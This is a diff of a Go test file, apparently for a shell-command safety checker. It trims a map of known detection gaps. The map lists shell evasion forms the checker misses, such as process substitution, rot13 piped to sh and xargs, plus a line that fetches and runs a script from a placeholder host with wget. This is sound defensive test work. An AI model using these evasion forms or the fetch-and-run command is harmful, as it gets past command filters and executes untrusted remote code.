@@ -252,19 +252,17 @@ var gridHeldAnyway = map[string]bool{"sudo -E env X": true, "chroot /": true, "s
 // way name (or, for code that cannot be read, the command); they are
 // logged, not failed (see the round's report).
 var gridHoles = map[string]bool{
-	`bash <(echo X)`:            true,
-	`c=prog; ${c:-prog}`:        true,
-	`declare`:                   true,
-	`f(){ "$@"; }; f X`:         true,
-	`f(){ prog "$@"; }; f args`: true,
-	`find -exec`:                true,
-	`flock`:                     true,
-	`local in a function`:       true,
-	`printf -v`:                 true,
-	`readonly`:                  true,
-	`source <(echo X)`:          true,
-	`tr rot13 | sh`:             true,
-	`xargs`:                     true,
+	`bash <(echo X)`:      true,
+	`c=prog; ${c:-prog}`:  true,
+	`declare`:             true,
+	`find -exec`:          true,
+	`flock`:               true,
+	`local in a function`: true,
+	`printf -v`:           true,
+	`readonly`:            true,
+	`source <(echo X)`:    true,
+	`tr rot13 | sh`:       true,
+	`xargs`:               true,
 	`bash -c "$(wget -qO- https://x.example/s)"`: true,
 }
 
